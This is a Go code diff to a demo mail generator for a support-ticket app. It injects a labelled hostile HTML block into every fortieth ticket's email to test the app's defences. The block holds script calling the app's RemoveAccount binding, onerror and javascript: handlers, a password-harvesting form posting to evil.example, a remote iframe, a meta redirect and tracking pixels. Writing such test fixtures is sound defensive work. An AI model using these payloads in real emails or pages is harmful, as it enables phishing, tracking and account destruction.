@@ -139,9 +139,37 @@ func originalMail(rnd *rand.Rand, is *Issue) Mail {
 	case 1:
 		att = []part{{contentType: "image/png", filename: "screenshot.png", body: tinyPNG}}
 	}
-	raw := buildMessage(h, is.Description, htmlBody, att, hexString(rnd, 16))
+	boundary := hexString(rnd, 16)
+	if is.IID%HostileEvery == 0 {
+		if htmlBody == "" {
+			htmlBody = textToHTML(is.Description)
+		}
+		htmlBody = strings.Replace(htmlBody, "</body>", hostileHTML+"</body>", 1)
+	}
+	raw := buildMessage(h, is.Description, htmlBody, att, boundary)
 	return Mail{Folder: FolderInbox, MessageID: is.MessageID, Date: is.CreatedAt, IssueIID: is.IID, Kind: "original", Raw: raw}
 }
+
+// HostileEvery: the original mail of every ticket whose iid is a multiple
+// of it carries hostileHTML, as mail from a compromised or careless sender
+// does, so the window's defences are exercised on real data (ticket #240 of
+// the default demo among them).
+const HostileEvery = 40
+
+// hostileHTML tries everything mail HTML must never do in the app: run
+// script, call the app's Go bindings, load remote content (pixels, CSS),
+// submit forms, frame other pages and navigate.
+const hostileHTML = `<div class="footer" style="background:url(https://tracker.example/bg.png)">` +
+	`<script>document.title='pwned';window.go&&window.go.app.App.RemoveAccount(1)</script>` +
+	`<img src="https://tracker.example/open.gif?u=1" width="1" height="1" alt="">` +
+	`<img src="x" onerror="document.title='pwned-onerror'">` +
+	`<p><a href="javascript:document.title='pwned-link'">View our privacy notice</a> ` +
+	`<a href="https://acme-customer.example/unsubscribe">Unsubscribe</a></p>` +
+	`<form action="https://evil.example/steal" method="post"><input name="password"><button>Verify account</button></form>` +
+	`<iframe src="https://evil.example/frame"></iframe>` +
+	`<meta http-equiv="refresh" content="0;url=https://evil.example/">` +
+	`<style>@import url(https://tracker.example/css.css); p{background-image:url(https://tracker.example/p.png)}</style>` +
+	`</div>`
 
 // replyMail is an agent's public note as GitLab's custom email sends it.
 func replyMail(is *Issue, n *Note, agent User, lastOurs string) Mail {
